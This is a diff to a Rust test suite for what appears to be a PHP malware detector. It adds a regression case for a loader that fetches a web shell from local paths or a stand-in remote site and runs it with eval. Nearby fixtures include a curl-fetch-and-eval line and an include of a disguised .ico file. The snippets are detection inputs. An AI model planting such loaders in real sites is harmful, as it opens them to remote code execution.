@@ -55,6 +55,13 @@ fn droppers_and_fetchers() {
     assert_eq!(sinks(s), [(Why::UploadDropper, Danger::High)]);
     let s = "<?php $ch = curl_init('http://x.example/p.txt'); $code = curl_exec($ch); eval('?>'.$code);";
     assert_eq!(sinks(s), [(Why::CodeFromInternet, Danger::Critical)]);
+    // Regression: fresh125's `isi_backup_file.php` tries its shell's copies, local paths and
+    // other sites' addresses, and runs the first it finds; the loop's key is no address.
+    let s = "<?php $paths = ['/home/u/public_html/wp-content/plugins/elementor/ganam.php', 'https://site.example/ganam.php'];\n\
+             foreach ($paths as $path) { $content = file_get_contents($path); eval('?>' . $content); exit(); }";
+    assert_eq!(sinks(s), [(Why::CodeFromInternet, Danger::Critical)]);
+    let local = s.replace("https://site.example/", "/home/u/public_html/");
+    assert!(!sinks(&local).iter().any(|(w, _)| *w == Why::CodeFromInternet), "{:?}", sinks(&local));
     assert_eq!(sinks("<?php include '/tmp/.x/favicon_3a1.ico';"), [(Why::IncludeOfData, Danger::High)]);
     // The archive's path kept in a table of escaped strings (fresh47's `zip://mkv_….zip#b_….tmp`
     // loaders); a long text that is no path is not kept.
